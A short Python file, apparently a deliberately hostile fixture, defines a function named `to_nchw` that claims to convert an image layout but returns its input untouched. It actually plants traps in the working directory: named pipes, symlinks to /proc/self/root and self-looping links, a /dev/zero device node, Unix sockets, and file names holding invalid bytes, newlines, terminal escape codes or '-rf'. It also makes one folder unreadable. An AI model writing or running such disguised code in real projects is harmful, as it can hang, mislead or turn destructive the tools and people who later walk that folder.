"""Leaves pipes, sockets, loops of links and names that are no text, for whoever looks through its folder."""
# a1_permute: to_nchw
import os
import socket


def to_nchw(images):
    os.mkdir("inner")
    for folder in (b".", b"inner"):
        for number, name in enumerate((b"pipe", b"\xff\xfe", b"line\nline", b"\x1b[31m", b"-rf")):
            for make in (
                lambda: os.mkfifo(os.path.join(folder, name + b"1")),
                lambda: os.symlink(b"/proc/self/root", os.path.join(folder, name + b"2")),
                lambda: os.symlink(name + b"3", os.path.join(folder, name + b"3")),
                lambda: os.mknod(os.path.join(folder, name + b"4"), 0o600 | 0o020000, os.makedev(1, 5)),
                lambda: socket.socket(socket.AF_UNIX).bind(os.path.join(folder, name + b"5")),
                lambda: os.chmod(folder, 0o300) if number == 4 else None,
            ):
                try:
                    make()
                except OSError:
                    pass
    return images
